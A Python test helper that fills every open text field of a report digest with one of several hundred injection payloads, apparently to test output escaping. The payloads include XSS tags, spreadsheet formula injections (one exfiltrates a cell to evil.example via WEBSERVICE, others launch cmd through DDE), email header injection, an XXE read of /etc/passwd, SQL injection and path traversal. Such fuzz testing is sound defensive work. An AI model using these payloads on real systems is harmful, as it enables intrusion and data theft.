"""More than three hundred texts that would like to run, load, link, call or compute, and digests that are full of them.

`poisoned` puts one into every string of a digest that a customer, a file, a column's name or a setting can fill: all but
the closed vocabularies named here, so that a field that is added tomorrow is poisoned too.
"""

# ruff: noqa: E501  (one text to a line)

from __future__ import annotations

import typing
from collections.abc import Callable, Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

from groundswell.findings import Consent, Verbatim
from reports.digest import Digest
from reports.wording.figures import shown

EVIL = "evil.example"
TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<script\x0b>alert(1)</script>", "<script type=module src=//evil.example>",
    "<script>alert`1`</script>", "<script/src=data:,alert(1)>", "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>", "<img src='x' onerror='alert(1)'", "<img srcset=//evil.example/a.png>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><use href=//evil.example/a.svg#x></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>", "<svg><style>@import '//evil.example'</style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<math href=javascript:alert(1)>x</math>",
    "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<frameset onload=alert(1)>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>", "<applet code=x>", "<portal src=//evil.example>",
    "<form action=//evil.example><input name=p></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.example>",
    "<link rel=prefetch href=//evil.example>", "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(//evil.example)>x</div>", "<div style='width:expression(alert(1))'>x</div>",
    "<p onclick=alert(1)>x</p>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<video poster=//evil.example/p.png>", "<audio src=x onerror=alert(1)>",
    "<table background=//evil.example>", "<td background=//evil.example>", "<bgsound src=//evil.example>", "<layer src=//evil.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=//evil.example>your bank</a>", "<xss style=behavior:url(//evil.example/x.htc)>", "<custom-element onclick=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!-- --><b>bold</b><!--", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>", "<?php echo 1 ?>", "<% alert(1) %>",
    "<b>bold</b>", "<h1>heading</h1>", "<br><hr><plaintext>", "<xmp><script>alert(1)</script></xmp>", "<dialog open>x</dialog>",
    "<", ">", "<>", "< script >", "<3 this shop", "a<b && c>d", "]]><x>", "</td></tr></table>", "</div></main></body></html>", "</p></section>",
    "<r><t>not ours</t></r>", "<r></r></si><si><t>another</t></si></r>", "<f>1+1</f>", "</t></si></sst>",
)  # fmt: skip
BREAKING_OUT = (
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)", "\" autofocus onfocus=\"alert(1)", "` onmouseover=`alert(1)", "x\" style=\"display:none", "x' class='y",
    "\";alert(1);//", "';alert(1);//", "\\\";alert(1);//", "\\';alert(1)//", "</script><svg onload=alert(1)>", "*/alert(1)/*",
    "url(//evil.example) expression(alert(1)) }</style>", "}body{display:none}", "/* */ @import url(//evil.example);", "\\3c script\\3e",
    "\u2028alert(1)\u2029", "-->", "--!><script>alert(1)</script>", "\"/><x y=\"", "${alert(1)}", "`${alert(1)}`", "\\u003cscript\\u003e",
    "</ScRiPt >", "%3Cscript%3Ealert(1)%3C/script%3E", "\ufeff<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3C;b&#x3E;", "&#60;b&#62;", "&amp;lt;b&amp;gt;", "&quot; onload=x &quot;", "&apos;",
    "&#39;&#34;", "&nbsp;&zwj;", "&", "&&", "&#0;", "&#xD800;", "&#x202e;abc", "&colon;&sol;", "&lt", "R&D <b>", "a &copy b", "&NotAnEntity;",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{# comment #}", "${7*7}", "#{7*7}",
    "{{=<% %>=}}", "<%= 7*7 %>", "{{{danger}}}", "%s %(x)s %n %d", "{0} {0.__class__}", "$(id) `id`", "#set($x=1)", "@{1+1}", "[[${7*7}]]",
    "*{7*7}", "~{a}", "{php}echo 1;{/php}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"your bill\")", "=HYPERLINK(\"file:///etc/passwd\")", "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=IMAGE(\"http://evil.example/p.png\")", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTRANGE(\"x\",\"A1\")", "=SUM(A1:A9)", "=A1", "= 1+1", "==1", "=-1", "+1+1", "+cmd|' /C calc'!A0", "+49 30 1234", "-1+1", "-2+3+cmd|' /C calc'!A0", "- late again",
    "-5 stars", "@SUM(A1)", "@A1", "@someone", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060=1+1", "\u00ad=1+1",
    "'=1+1", "\"=1+1\"", "'\"=1+1", "\"\"=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\u22121+1", "\ufe661+1", "\ufe621", "\ufe631", "\ufe6bA1", "%0A=1+1",
    "x;=1+1", "x; =1+1", "x\t=1+1", "x\n=1+1", "x\r\n=1+1", "x,=1+1", "x|=1+1", "\";=1+1", "x\";\"=1+1", "x\",=1+1,\"", "\",\"=1+1\",\"", "a\";@SUM(A1);\"", ";;;-1", "sep=;",
    "{=1+1}", "=1+1\u202e", "\u202e=1+1", "\u2066@A1", "_x003D_1+1", "_x000D_=1", "=\u20281", "=+-@", "=\"a\"&\"b\"", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "[x](http://evil.example)", "[x]( <javascript:alert(1)> )", "![x](http://evil.example/p.png)", "[![x](//evil.example/p)](//evil.example)",
    "<http://evil.example>", "<javascript:alert(1)>", "<someone@evil.example>", "[a]: http://evil.example", "[a][a] ![][a]", "[^1]: note", "[^1]", "`code`", "``` js\nalert(1)\n```",
    "~~~\ncode\n~~~", "    indented code", "# heading", "## heading\n\ntext", "Heading\n===", "Heading\n---", "---", "***", "- item", "* item", "+ item", "1. item", "1) item", "> quote",
    "> > quote", "- [ ] task", "- [x] task", "*bold* _em_ **b** __b__ ~~gone~~", "***a***", "a_b_c*d*e", "\\`\\*\\<b\\>", "| a | b |\n|---|---|\n| c | d |", "a | b", "|", "||", ": definition",
    "$$x^2$$", "$x$", "<details><summary>x</summary></details>", ":smile: :+1:", "#123 GH-1", "a\\\nb", "trailing  \nbreak", "!important", "=== heading", "\\", "\\\\", "^sup^ ~sub~", "==mark==",
)  # fmt: skip
LINKS = (
    "http://evil.example/?q=1", "https://evil.example", "HTTPS://EVIL.EXAMPLE", "http:evil.example", "hxxp://evil.example", "//evil.example/x", "www.evil.example", "WWW.evil.example", "evil.example",
    "see evil.example/pay now", "http://evil.example@bank.example", "http://127.0.0.1:9/x", "http://[::1]/", "ftp://evil.example", "file:///etc/passwd", "\\\\evil.example\\share", "smb://evil.example",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>", "blob:x",
    "mailto:a@evil.example?bcc=b@evil.example", "tel:+491234567", "sms:1234", "skype:evil?call", "slack://channel?id=1", "xmpp:a@evil.example", "magnet:?x=1", "intent://x#Intent;end",
    "ht\u200btp://evil.example", "http\u200b://evil.example", "h\u202ettp://evil.example", "http://\u0435vil.example", "http://xn--e1a.example", "https:/\\evil.example", "http://evil.example/\"onload=\"x",
)  # fmt: skip
MENTIONS = (
    "@everyone", "@here", "@channel", "@ann", "@U123", "<!channel>", "<!here>", "<!everyone>", "<!here|here>", "<@U123>", "<@W0|ann>", "<#C123>", "<#C123|general>", "<!subteam^S1>", "<!subteam^S1|@team>",
    "<!date^1^{date}|x>", "<http://evil.example|your bill>", "<mailto:a@evil.example|a>", "&lt;!channel&gt;", "&lt;@U123&gt;", "<@&1>", "<@!1>", "@\u200beveryone", "\uff20everyone", "someone@evil.example",
    "*bold* _it_ ~st~ `co`", ":rotating_light:", "<at>ann</at>", "[~ann]", "@@everyone", "a@everyone", "(@here)", "<!>", "<@>", "```<!channel>```", ">>> quote", "@all @room", "/invite @ann",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: victim@evil.example", "x\nBcc: victim@evil.example", "x\rBcc: victim@evil.example", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aBcc: a@evil.example", "x\u2028Bcc: a@evil.example",
    "x\u0085Bcc: a@evil.example", "x\x0bBcc: a", "x\x0cBcc: a", "=?utf-8?q?=0D=0ABcc:_a=40evil.example?=", "=?utf-8?b?PHNjcmlwdD4=?=", "\r\n.\r\nMAIL FROM:<a@evil.example>", ".", "\n.\n",
    "Subject: other", "Content-Type: text/html", "--=_boundary", "X-Groundswell-Repeat: 1", "\"a\" <a@evil.example>", "a@evil.example, b@evil.example", "From: ceo@evil.example\r\n",
)  # fmt: skip
CONTROLS = (
    "\u202egnp.exe\u202c", "\u2066x\u2069 \u2067y\u2069", "\u200f\u05d0\u05d1", "\u061c\u0627", "\u202dabc\u202c", "a\x00b", "a\x1b[31mred\x1b[0m", "a\x07b\x08c", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "a\x7fb\x9bc", "\ud800 lone", "lone \udfff", "a\u0300" * 60, "Z\u0351\u0325\u0301a\u0321\u0353l\u0353\u0300g\u0321\u0300o", "\U000e0041\U000e0042 tags", "\ufff9a\ufffab\ufffb", "\ufdfa" * 20, "\u115f x \u3164 y",
    "\U0001f3f3\ufe0f\u200d\U0001f308 " * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "W" * 3000, "w " * 3000, "\u0e01\u0e33" * 200, "\uffff", "\ufffe x", "a\u2028b\u2029c", "a\x85b", "a\tb\tc", "\u200b\u200bx", "x\u2060y",
    "<" * 500, "&" * 500, "'" * 200, "\"" * 200, "\\" * 200, "*" * 200, "|" * 100, "(" * 100, "_" * 100, "=" * 100, "\u05d0" * 100, "\u4e2d" * 400,
)  # fmt: skip
FIELDS = (
    "a,b,c", "a;b;c", "a\tb", "\"quoted\"", "he said \"no, never\"", "\"", "\"\"", "'", "''", "a\"b", "\"a", "a\"", "\",\"", ",", ";", "\"\n\"", "null", "NULL", "None", "NaN", "nan", "inf", "-inf", "true", "FALSE", "0", "007",
    "1e5", "1E400", "0x1F", "1,5", "1.5", "12/11/2026", "2026-11-12", "'; DROP TABLE feedback; --", "\" OR 1=1 --", "../../etc/passwd", "..\\..\\x", "C:\\x", "con", "~root", "a/b", "__proto__", "constructor", "[]", "{}", "#N/A", "#REF!",
    "{\"a\": 1}", "[\"x\"]", "undefined", "Robert'); DROP TABLE x;--",
)  # fmt: skip


def _apart(texts: tuple[str, ...]) -> tuple[str, ...]:
    """The texts, those that read like an earlier one with a number behind: pages tell what reads alike only once."""
    kept: dict[str, str] = {}
    for text in dict.fromkeys(texts):
        key = _read(text)
        kept[_read(f"{text}{len(kept)}") if key in kept else key] = f"{text}{len(kept)}" if key in kept else text
    return tuple(kept.values())


def _read(text: str) -> str:
    return shown(text).casefold().rstrip(".")


PAYLOADS = _apart(
    (*TAGS, *BREAKING_OUT, *ENTITIES, *TEMPLATES, *FORMULAS, *MARKDOWN, *LINKS, *MENTIONS, *HEADERS, *CONTROLS, *FIELDS)
)
# These are nothing to read: pages leave out what they stand in, so they are put in by themselves.
BLANK = ("\0", " ", "\t", "\r\n", "\u202e", "\u2066\u2069", "\u200f", "\x1b", "\u2028", "\u3000")
# One text with everything in it, short enough that no page cuts it.
POLYGLOT = "=<b y='\"`>{{7}}&amp;[l](//e.xy)@all|*"

# Fields that hold one of a few words of ours, a week's label, or an id that we derive.
CLOSED = {
    "Digest": {"audience"},
    "Period": {"timezone", "length"},
    "GeneratedFrom": {"fingerprint"},
    "SourceSummary": {"kind"},
    "Coverage": {"counted", "languages"},
    "ScoreSummary": {"metric", "unit"},
    "Change": {"baseline_label"},
    "Absent": {"section"},
    "Finding": {"quadrant", "rank_parts", "signals"},
    "Impact": {"metric"},
    "WeekCount": {"week"},
    "VolumePoint": {"week"},
    "Backlog": {"week"},
    "Alert": {"kind", "state", "since", "last_week", "mood", "event"},
    "ThemeEvent": {"kind"},
    "Escalation": {"kinds"},
    "Mismatch": {"direction"},
    "SignalSummary": {"found"},
    "SentimentSource": {"model"},
    "Testimonial": {"consent", "rank_parts", "key"},
    "Consent": {"key", "state", "waits_for"},
    "GoneTheme": {"mood", "last_week"},
    "ScoreDriver": {"metric", "method", "mood"},
    "ScoreMove": {"metric"},
    "SegmentScore": {"metric"},
    "ReleaseEffect": {"mood"},
    "ActionEffect": {"verdict"},
    "ServiceLevel": {"group_by", "against_before"},
    "ServiceDriver": {"measure"},
}


def poisoned(digest: Digest, offset: int = 0) -> Digest:
    """The digest with a payload in place of every open text, the `offset`-th first; alike where texts were alike."""
    return with_texts(digest, lambda place: PAYLOADS[(offset + place) % len(PAYLOADS)])


def twins(digest: Digest, offset: int = 0) -> tuple[Digest, Digest]:
    """The poisoned digest, and one with a harmless word of the same length and rank wherever a payload stands."""
    return poisoned(digest, offset), with_texts(digest, lambda place: HARMLESS[(offset + place) % len(PAYLOADS)])


def with_texts(digest: Digest, text_at: Callable[[int], str]) -> Digest:
    """The digest with other open texts: the n-th different one becomes `text_at(n)`."""
    seen: dict[str, str] = {}

    def other(text: str) -> str:
        if text and text not in seen:
            # Where there are more texts than payloads, a number keeps those apart that were.
            seen[text] = text_at(len(seen)) + (f" {len(seen)}" if len(seen) >= len(PAYLOADS) else "")
        return seen.get(text, text)

    made: Digest = _walked(digest, other)
    return made


def _walked(value: Any, other: Callable[[str], str]) -> Any:
    if isinstance(value, str):
        return other(value)
    if isinstance(value, tuple):
        return tuple(_walked(entry, other) for entry in value)
    if isinstance(value, Mapping):
        return {other(key): _walked(entry, other) for key, entry in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        closed = CLOSED.get(type(value).__name__, set())
        open_fields = [one.name for one in fields(value) if one.name not in closed and not one.name.endswith("_id")]
        return replace(value, **{name: _walked(getattr(value, name), other) for name in open_fields})
    return value


def in_words(digest: Digest, words: str) -> Digest:
    """The digest with the given words in place of all that customers wrote."""
    made: Digest = _in_words(digest, words)
    return made


def _in_words(value: Any, words: str) -> Any:
    if isinstance(value, tuple):
        return tuple(_in_words(entry, words) for entry in value)
    if isinstance(value, Verbatim | Consent):
        return replace(value, text=words)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{one.name: _in_words(getattr(value, one.name), words) for one in fields(value)})
    return value


def open_texts(kind: type, found: dict[str, set[str]] | None = None) -> dict[str, set[str]]:
    """By dataclass, the names of all fields below `kind` in which a payload is put."""
    found = {} if found is None else found
    if kind.__name__ in found:
        return found
    hints, names = typing.get_type_hints(kind), found.setdefault(kind.__name__, set())
    for one in fields(kind):
        if one.name in CLOSED.get(kind.__name__, set()) or one.name.endswith("_id"):
            continue
        for part in _parts(hints[one.name]):
            if part is str:
                names.add(one.name)
            elif is_dataclass(part) and isinstance(part, type):
                open_texts(part, found)
    return found


def _parts(hint: Any) -> list[Any]:
    arguments = typing.get_args(hint)
    return [part for argument in arguments for part in _parts(argument)] if arguments else [hint]


def _harmless() -> tuple[str, ...]:
    """For each payload a word as long as it is shown, that sorts among the others as the payload does."""
    rank = {payload: place for place, payload in enumerate(sorted(PAYLOADS))}
    words = []
    for payload in PAYLOADS:
        word = f"w{rank[payload]:03d}"
        length = len(shown(payload))
        # Spaces where the payload has them, so that both are cut at the same place.
        rest = "".join(" " if c == " " else "x" for c in shown(payload)[len(word) :])
        words.append((word + rest)[: max(length, len(word))])
    return tuple(words)


HARMLESS = _harmless()
